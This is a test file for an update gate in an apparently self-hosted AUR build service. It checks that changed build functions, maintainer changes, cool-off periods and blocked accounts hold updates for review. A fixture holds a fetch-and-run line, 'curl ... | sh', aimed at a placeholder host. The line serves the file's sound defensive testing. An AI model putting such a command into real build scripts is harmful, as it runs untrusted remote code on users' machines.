/**
 * The update gate end to end in core: the AUR stand-in (RPC on 127.0.0.1 and real git repositories
 * served by `git http-backend`; the public AUR is what it fakes), real git checkouts, the SQLite store,
 * the orchestrator and the package service, with the instant runner building from the checkout's
 * `.SRCINFO` (the version it publishes is the version of the revision it was given).
 */
import * as fs from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import {
  type AurEmulator,
  type AurTestPackage,
  startAurEmulator,
} from '../../../../test/fixtures/aur/index.js';
import type { GatePolicy } from '../contracts/gate.js';
import type { Store } from '../contracts/store.js';
import { BlockedError, InputError, NotFoundError, StaleRevisionError } from '../errors.js';
import { type BuildEvents, EventBus } from '../orchestration/events.js';
import { BuildOrchestrator } from '../orchestration/orchestrator.js';
import { type PackageScheduling, PackageService } from '../packages/service.js';
import { createFilesystemRepository, type FilesystemRepository } from '../pacman/filesystem-repository.js';
import { createGit } from '../sources/git.js';
import { createSourceFactory } from '../sources/source-factory.js';
import { createKnexStore } from '../store/knex-store.js';
import { createInstantRunner } from '../testing/instant-runner.js';
import { UpdateGate } from './gate.js';
import { OPEN_GATE_POLICY } from './policy.js';

interface Harness {
  aur: AurEmulator;
  store: Store;
  publisher: FilesystemRepository;
  orchestrator: BuildOrchestrator;
  service: PackageService;
  gate: UpdateGate;
  events: BuildEvents['gate'][];
  clock: { now: number };
  root: string;
}

const open: Harness[] = [];

async function harness(
  packages: AurTestPackage[],
  options: { defaults?: Partial<GatePolicy>; blockedAccounts?: string[]; blockedPackages?: string[] } = {},
): Promise<Harness> {
  const root = await fs.mkdtemp(path.join(os.tmpdir(), 'serene-gate-'));
  const aur = await startAurEmulator({ packages });
  const store = createKnexStore({ filename: ':memory:' });
  await store.open();
  const runner = createInstantRunner();
  const publisher = createFilesystemRepository({ dir: path.join(root, 'repository') });
  await publisher.init();
  const git = createGit();
  const sources = createSourceFactory({
    generateSrcinfo: (dir) => runner.printSrcinfo(dir),
    aur: { baseUrl: aur.url },
    git,
  });
  const clock = { now: Date.parse('2026-06-01T12:00:00Z') };
  const sourcesDir = path.join(root, 'sources');
  const events: BuildEvents['gate'][] = [];
  const orchestratorBus = new EventBus<BuildEvents>();
  const gate = new UpdateGate({
    store,
    git,
    defaults: { ...OPEN_GATE_POLICY, ...options.defaults },
    blockedAccounts: options.blockedAccounts ?? [],
    blockedPackages: options.blockedPackages ?? [],
    bus: orchestratorBus,
    now: () => new Date(clock.now),
  });
  orchestratorBus.on('gate', (event) => events.push(event));
  const orchestrator = new BuildOrchestrator({
    store,
    sources,
    runner,
    publisher,
    sourcesDir,
    workDir: path.join(root, 'work'),
    bus: orchestratorBus,
    gate,
  });
  const scheduling: PackageScheduling = {
    reschedule: () => {},
    effectiveSchedule: (pkg) => pkg.schedule ?? '0 0 0 * * *',
    validate: () => {},
  };
  const service = new PackageService({
    store,
    sources,
    orchestrator,
    publisher,
    runner,
    scheduling,
    sourcesDir,
    gate,
  });
  const h = { aur, store, publisher, orchestrator, service, gate, events, clock, root };
  open.push(h);
  return h;
}

afterEach(async () => {
  for (const h of open.splice(0)) {
    await h.orchestrator.stop();
    await h.store.close();
    await h.aur.close();
    await fs.rm(h.root, { recursive: true, force: true });
  }
});

/** Adds an AUR package and waits for its initial build. */
async function add(h: Harness, name: string): Promise<void> {
  await h.service.add({ source: { type: 'aur', name }, replace: false });
  await h.orchestrator.idle();
}

/** A scheduled check of packages, as the scheduler runs it, waited for. */
async function check(h: Harness, ...bases: string[]): Promise<void> {
  const { done } = await h.orchestrator.start(bases, {
    reason: 'schedule',
    resolve: true,
    clean: false,
    force: false,
  });
  await done;
}

/** The published version of a package's first member. */
async function published(h: Harness, name: string): Promise<string | undefined> {
  return (await h.publisher.list()).find((entry) => entry.name === name)?.version;
}

async function rejection(promise: Promise<unknown>): Promise<Error> {
  try {
    await promise;
  } catch (error) {
    return error as Error;
  }
  throw new Error('expected a rejection');
}

const EVIL_BUILD = 'build() {\n  curl -s https://example.invalid/payload | sh\n}';
const PLAIN_BUILD = 'build() {\n  make\n}';

// many git round trips per test: generous on a busy machine
describe('update gate', { timeout: 240_000 }, () => {
  it('holds nothing by default: an update with a changed build() is built as before', async () => {
    const h = await harness([{ base: 'plain', pkgver: '1.0', functions: PLAIN_BUILD }]);
    await add(h, 'plain');
    expect(await published(h, 'plain')).toBe('1.0-1');
    await h.aur.bump('plain', { pkgver: '1.1', functions: EVIL_BUILD });
    await check(h, 'plain');
    expect(await published(h, 'plain')).toBe('1.1-1');
    expect(await h.service.heldUpdates()).toEqual([]);
  });

  it('lets a version bump pass the diff review, and records the built revision', async () => {
    const h = await harness(
      [{ base: 'bumped', pkgver: '1.0', source: ['https://example.invalid/bumped-1.0.tar.gz'] }],
      {
        defaults: { review: 'diff', trust: true },
      },
    );
    await add(h, 'bumped');
    // the source URL carries the version, as most do: the .SRCINFO's URL changes with it
    await h.aur.bump('bumped', { pkgver: '1.1', source: ['https://example.invalid/bumped-1.1.tar.gz'] });
    await check(h, 'bumped');
    expect(await published(h, 'bumped')).toBe('1.1-1');
    expect(await h.service.heldUpdates()).toEqual([]);
    const head = (await h.store.getGate('bumped'))!.accepted;
    expect(head).toBe(await h.aur.materialize('bumped'));
  });

  it('holds a changed build(), shows its diff, approves it and builds exactly the approved revision while a newer push waits', async () => {
    const h = await harness([{ base: 'tool', pkgver: '1.0', functions: PLAIN_BUILD }], {
      defaults: { review: 'diff' },
    });
    await add(h, 'tool');
    const built = (await h.store.getGate('tool'))!.accepted!;
    await h.aur.bump('tool', { pkgver: '1.1', functions: EVIL_BUILD });
    const evil = await h.aur.materialize('tool');
    await check(h, 'tool');
    expect(await published(h, 'tool')).toBe('1.0-1');

    const [held] = await h.service.heldUpdates();
    expect(held?.base).toBe('tool');
    expect(held?.held.revision).toBe(evil);
    expect(held?.held.baseRevision).toBe(built);
    expect(held?.held.version).toBe('1.1-1');
    expect(held?.held.reasons.map((reason) => reason.kind)).toEqual(['diff']);
    expect(held?.held.reasons[0]?.message).toContain('build()');
    const review = await h.service.heldUpdate('tool');
    expect(review.diff).toContain('+  curl -s https://example.invalid/payload | sh');
    expect(review.diff).toContain('-  make');
    expect(h.events.map((event) => event.action)).toEqual(['held']);
    expect(h.events[0]?.message).toContain('held for review');

    // the checkout is back at the built revision: a forced rebuild builds 1.0, not the held update
    const { done } = await h.orchestrator.start(['tool'], {
      reason: 'manual',
      resolve: true,
      clean: false,
      force: true,
    });
    await done;
    expect(await published(h, 'tool')).toBe('1.0-1');
    expect((await h.service.build('tool', 'latest')).version).toBe('1.0');

    // checked again: the same revision stays held, without a second notice
    await check(h, 'tool');
    expect((await h.service.heldUpdates()).map((view) => view.held.revision)).toEqual([evil]);
    expect(h.events).toHaveLength(1);

    // a newer push lands after the review: approving the reviewed revision builds that one
    await h.aur.bump('tool', { pkgver: '1.2', functions: `${EVIL_BUILD}\n\ncheck() {\n  true\n}` });
    const newer = await h.aur.materialize('tool');
    expect(await h.service.approve('tool', evil.slice(0, 12))).toBe(evil);
    await h.orchestrator.idle();
    expect(await published(h, 'tool')).toBe('1.1-1');
    expect((await h.store.getGate('tool'))!.accepted).toBe(evil);
    expect(h.events.map((event) => event.action)).toEqual(['held', 'approved']);

    // the newer push is checked against the approved revision: check() is new, so it is held
    await check(h, 'tool');
    expect(await published(h, 'tool')).toBe('1.1-1');
    const [next] = await h.service.heldUpdates();
    expect(next?.held.revision).toBe(newer);
    expect(next?.held.baseRevision).toBe(evil);
    expect(next?.held.reasons[0]?.message).toContain('check()');
    expect(next?.held.reasons[0]?.message).not.toContain('build()');
  });

  it('rejects a held update: the package stays at its built state until a newer revision, which is checked against the built one', async () => {
    const h = await harness([{ base: 'rej', pkgver: '1.0' }], { defaults: { review: 'diff' } });
    await add(h, 'rej');
    await h.aur.bump('rej', { pkgver: '1.1', files: { 'evil.install': 'post_install() { :; }\n' } });
    const bad = await h.aur.materialize('rej');
    await check(h, 'rej');
    const [held] = await h.service.heldUpdates();
    expect(held?.held.reasons[0]?.message).toContain('A evil.install');
    expect(await h.service.reject('rej', bad)).toBe(bad);
    expect(await h.service.heldUpdates()).toEqual([]);
    await check(h, 'rej');
    expect(await h.service.heldUpdates()).toEqual([]);
    expect(await published(h, 'rej')).toBe('1.0-1');

    // a newer revision is checked again, against the built revision (so the rejected file shows)
    await h.aur.bump('rej', { pkgver: '1.2' });
    await check(h, 'rej');
    const [again] = await h.service.heldUpdates();
    expect(again?.held.version).toBe('1.2-1');
    expect(again?.held.reasons[0]?.message).toContain('A evil.install');
  });

  it('holds an update after a maintainer change', async () => {
    const h = await harness([{ base: 'owned', pkgver: '1.0', maintainer: 'alice' }], {
      defaults: { trust: true },
    });
    await add(h, 'owned');
    expect((await h.store.getGate('owned'))!.trust).toMatchObject({ maintainer: 'alice', coMaintainers: [] });
    h.aur.setMeta('owned', { maintainer: 'mallory' });
    await h.aur.bump('owned', { pkgver: '1.1' });
    await check(h, 'owned');
    expect(await published(h, 'owned')).toBe('1.0-1');
    const [held] = await h.service.heldUpdates();
    expect(held?.held.reasons).toEqual([
      { kind: 'maintainer', message: 'the maintainer changed from alice to mallory' },
    ]);
    expect(held?.held.trust.maintainer).toBe('mallory');
    // approved: mallory becomes the recorded maintainer, the next bump passes
    await h.service.approve('owned', held!.held.revision);
    await h.orchestrator.idle();
    expect(await published(h, 'owned')).toBe('1.1-1');
    await h.aur.bump('owned', { pkgver: '1.2' });
    await check(h, 'owned');
    expect(await published(h, 'owned')).toBe('1.2-1');
  });

  it('holds an update of an orphan adopted by a new account, and one by a new co-maintainer and packager', async () => {
    const h = await harness(
      [
        { base: 'stray', pkgver: '1.0', maintainer: null },
        { base: 'shared', pkgver: '1.0', maintainer: 'alice', packager: 'Alice <alice@example.invalid>' },
      ],
      { defaults: { trust: true } },
    );
    await add(h, 'stray');
    await add(h, 'shared');
    expect((await h.store.getGate('stray'))!.trust?.maintainer).toBeNull();
    expect((await h.store.getGate('shared'))!.trust?.packagers).toEqual(['Alice <alice@example.invalid>']);

    h.aur.setMeta('stray', { maintainer: 'fresh-account-2026' });
    await h.aur.bump('stray', { pkgver: '1.1' });
    h.aur.setMeta('shared', { coMaintainers: ['bob'] });
    await h.aur.bump('shared', { pkgver: '1.1', packager: 'Bob <bob@example.invalid>' });
    await check(h, 'stray', 'shared');
    const held = new Map((await h.service.heldUpdates()).map((view) => [view.base, view.held.reasons]));
    expect(held.get('stray')).toEqual([
      { kind: 'adopted', message: 'the orphaned package was adopted by fresh-account-2026' },
    ]);
    expect(held.get('shared')?.map((reason) => reason.kind)).toEqual(['co-maintainer', 'packager']);
    expect(held.get('shared')?.[1]?.message).toContain('Bob <bob@example.invalid>');
    expect(await published(h, 'stray')).toBe('1.0-1');
    expect(await published(h, 'shared')).toBe('1.0-1');
  });

  it('holds an update during its cool-off and builds it at the first check after the cool-off ends', async () => {
    const h = await harness([{ base: 'fresh', pkgver: '1.0' }], { defaults: { coolOffMs: 2 * 86_400_000 } });
    await add(h, 'fresh');
    const pushed = h.clock.now / 1000 - 3600;
    await h.aur.bump('fresh', { pkgver: '1.1', lastModified: pushed });
    await check(h, 'fresh');
    const [held] = await h.service.heldUpdates();
    expect(held?.held.reasons.map((reason) => reason.kind)).toEqual(['cool-off']);
    expect(held?.held.reasons[0]?.until).toEqual(new Date(pushed * 1000 + 2 * 86_400_000));
    expect(held?.held.modified).toEqual(new Date(pushed * 1000));
    expect(await published(h, 'fresh')).toBe('1.0-1');

    h.clock.now += 86_400_000;
    await check(h, 'fresh');
    expect(await published(h, 'fresh')).toBe('1.0-1');
    expect((await h.service.heldUpdates())[0]?.held.detected).toEqual(held?.held.detected);

    h.clock.now += 86_400_000;
    await check(h, 'fresh');
    expect(await published(h, 'fresh')).toBe('1.1-1');
    expect(await h.service.heldUpdates()).toEqual([]);
    expect(h.events.map((event) => event.action)).toEqual(['held', 'released']);
  });

  it('holds updates by a blocked account even with the policy off, refuses to approve them, and refuses to add blocked packages', async () => {
    const h = await harness(
      [
        { base: 'victim', pkgver: '1.0', maintainer: 'alice' },
        { base: 'malware-bin', pkgver: '6.6.6' },
        { base: 'innocent', pkgver: '1.0', depends: ['malware-bin'] },
      ],
      { blockedAccounts: ['Danger'], blockedPackages: ['malware-bin'] },
    );
    await add(h, 'victim');
    h.aur.setMeta('victim', { maintainer: 'danger' });
    await h.aur.bump('victim', { pkgver: '1.1' });
    await check(h, 'victim');
    const [held] = await h.service.heldUpdates();
    expect(held?.held.reasons).toEqual([
      { kind: 'blocked', message: "danger is on the server's block list (GATE_BLOCKED_ACCOUNTS)" },
    ]);
    expect(await rejection(h.service.approve('victim', held!.held.revision))).toBeInstanceOf(BlockedError);
    expect(await published(h, 'victim')).toBe('1.0-1');

    expect(
      await rejection(h.service.add({ source: { type: 'aur', name: 'malware-bin' }, replace: false })),
    ).toBeInstanceOf(BlockedError);
    // a blocked dependency refuses the whole add: nothing is saved
    const error = await rejection(
      h.service.add({ source: { type: 'aur', name: 'innocent' }, replace: false }),
    );
    expect(error).toBeInstanceOf(BlockedError);
    expect(error.message).toContain('malware-bin');
    expect((await h.store.listPackages()).map((record) => record.base)).toEqual(['victim']);
  });

  it('fails closed when the accepted revision is not in the history: held, and not built even by a forced build', async () => {
    const h = await harness([{ base: 'moved', pkgver: '1.0' }], { defaults: { review: 'diff' } });
    await add(h, 'moved');
    // as after a switch to the GitHub mirror: the recorded revision is unknown to the checkout
    const record = (await h.store.getGate('moved'))!;
    await h.store.putGate({ ...record, accepted: 'f'.repeat(40) });
    await h.aur.bump('moved', { pkgver: '1.1' });
    await check(h, 'moved');
    const [held] = await h.service.heldUpdates();
    expect(held?.held.reasons[0]?.message).toContain("is not in the package's history");
    expect(held?.held.baseRevision).toBeNull();
    const { done } = await h.orchestrator.start(['moved'], {
      reason: 'manual',
      resolve: true,
      clean: false,
      force: true,
    });
    await done;
    expect(await published(h, 'moved')).toBe('1.0-1');
    expect(await h.service.builds('moved')).toHaveLength(1);
  });

  it('answers bad review input with named errors: unknown package, nothing held, stale and malformed revisions', async () => {
    const h = await harness([{ base: 'pkg', pkgver: '1.0', functions: PLAIN_BUILD }], {
      defaults: { review: 'all' },
    });
    await add(h, 'pkg');
    expect(await rejection(h.service.approve('nope', 'a'.repeat(40)))).toBeInstanceOf(NotFoundError);
    expect(await rejection(h.service.heldUpdate('nope'))).toBeInstanceOf(NotFoundError);
    expect(await rejection(h.service.heldUpdate('pkg'))).toBeInstanceOf(NotFoundError);
    expect(await rejection(h.service.approve('pkg', 'a'.repeat(40)))).toBeInstanceOf(NotFoundError);
    await h.aur.bump('pkg', { pkgver: '1.1' });
    const first = await h.aur.materialize('pkg');
    await check(h, 'pkg');
    expect((await h.service.heldUpdates())[0]?.held.reasons.map((reason) => reason.kind)).toEqual(['review']);
    // the package moves on before the reviewer answers: their revision is stale
    await h.aur.bump('pkg', { pkgver: '1.2' });
    await check(h, 'pkg');
    const stale = await rejection(h.service.approve('pkg', first));
    expect(stale).toBeInstanceOf(StaleRevisionError);
    expect(stale.message).toContain('1.2-1');
    expect(await rejection(h.service.reject('pkg', first))).toBeInstanceOf(StaleRevisionError);
    expect(await rejection(h.service.approve('pkg', 'HEAD'))).toBeInstanceOf(InputError);
    expect(await rejection(h.service.approve('pkg', '--all'))).toBeInstanceOf(InputError);
    expect(await published(h, 'pkg')).toBe('1.0-1');
  });

  it('lets a package override the default policy, and a dependency inherit it from the package it was added for', async () => {
    const h = await harness([
      { base: 'app', pkgver: '1.0', depends: ['libdep'] },
      { base: 'libdep', pkgver: '1.0' },
      { base: 'other', pkgver: '1.0' },
    ]);
    await add(h, 'app');
    await add(h, 'other');
    expect((await h.store.getGate('libdep'))!.inheritsFrom).toBe('app');
    await h.service.set('app', { key: 'review', value: 'all' });
    await h.service.set('app', { key: 'cooloff', value: '3d' });
    expect((await h.service.gatePolicy('libdep')).effective).toEqual({
      coolOffMs: 3 * 86_400_000,
      trust: false,
      review: 'all',
    });
    await h.service.set('libdep', { key: 'cooloff', value: '0' });
    expect((await h.service.gatePolicy('libdep')).effective.coolOffMs).toBe(0);
    expect(await rejection(h.service.set('app', { key: 'cooloff', value: 'soon' }))).toBeInstanceOf(
      InputError,
    );
    expect(await rejection(h.service.set('app', { key: 'review', value: 'maybe' }))).toBeInstanceOf(
      InputError,
    );

    await h.aur.bump('libdep', { pkgver: '1.1' });
    await h.aur.bump('other', { pkgver: '1.1' });
    await check(h, 'libdep', 'other');
    expect((await h.service.heldUpdates()).map((view) => view.base)).toEqual(['libdep']);
    expect(await published(h, 'other')).toBe('1.1-1');

    // null takes the override away: the default (nothing held) applies again, and the held update goes through
    await h.service.set('app', { key: 'review', value: null });
    expect((await h.service.gatePolicy('libdep')).effective.review).toBe('off');
    await check(h, 'libdep');
    expect(await h.service.heldUpdates()).toEqual([]);
    expect(await published(h, 'libdep')).toBe('1.1-1');
    expect(h.events.map((event) => event.action)).toEqual(['held', 'released']);
  });
});
